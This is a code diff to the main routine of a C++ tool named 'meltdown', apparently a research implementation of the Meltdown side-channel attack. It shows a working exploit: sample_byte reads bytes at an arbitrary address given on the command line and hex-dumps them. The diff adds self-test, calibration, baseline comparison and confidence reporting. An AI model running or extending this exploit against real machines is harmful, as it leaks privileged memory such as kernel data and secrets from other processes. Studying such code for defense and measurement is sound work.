+  }
+  Channel & channel = session.channel;
+
+  if (options.self_test && argc <= 1) {
+    size_t length = argc == 1 ? strtoul(argv[0], nullptr, 10) : kCanarySize;
+    if (length == 0) {
+      std::cerr << usage;
+      return EXIT_FAILURE;
+    }
+    SelfTestResult result = self_test(length, channel, session.node);
+    print_session(session);
+    print_self_test(result, channel.stats);
+    if (!options.confusion.empty()) {
+      std::ofstream out(options.confusion);
+      result.confusion.write(out);
+      if (!out) {
+        std::cerr << "meltdown: cannot write " << options.confusion << std::endl;
+        return EXIT_FAILURE;
+      }
+    }
+    if (options.baseline) {
+      ChannelStatistics stats = channel.stats;
+      channel.backend = Backend::kBaseline;
+      channel.recorder = nullptr;
+      channel.stats = ChannelStatistics{};
+      apply_calibration(channel, session.calibration);
+      SelfTestResult baseline = self_test(length, channel, session.node);
+      print_baseline(result, stats, baseline, channel.stats);
+    }
+    return exit_code(result.verdict());
+  }
+
   size_t begin = (size_t)usage;
   size_t size = strlen(usage);
 
-  std::array<char, 256 * kPageSize> probe_memory;
-
-  if (argc != 3) {
+  if (options.self_test || argc != 2) {
     // leak our own usage message
     for (size_t i = 0; i < size; ++i) {
-      std::cerr << sample_byte(begin + i, probe_memory.data());
+      std::cerr << sample_byte(begin + i, channel).value;
     }
     return EXIT_FAILURE;
   }
 
-  begin = strtoul(argv[1], nullptr, 16);
-  size = strtoul(argv[2], nullptr, 10);
+  begin = strtoul(argv[0], nullptr, 16);
+  size = strtoul(argv[1], nullptr, 10);
 
   std::vector<unsigned char> buffer;
-  size_t address;
+  std::vector<float> confidences;
+  size_t address = begin;
   for (size_t i = 0; i < size; ++i) {
     if (buffer.empty()) {
       address = begin + i;
     }
-    buffer.push_back(sample_byte(begin + i, probe_memory.data()));
-    if (buffer.size() == 16) {
+    ByteSample sample = sample_byte(begin + i, channel);
+    buffer.push_back(sample.value);
+    confidences.push_back(sample.confidence);
+    if (buffer.size() == 16 || i + 1 == size) {
       pretty_print(address, buffer);
+      if (options.show_confidence) {
+        print_confidence(confidences);
+      }
       buffer.clear();
+      confidences.clear();
     }
   }
-  if (!buffer.empty()) {
-    pretty_print(address, buffer);
-    buffer.clear();
-  }
 
   return EXIT_SUCCESS;
 }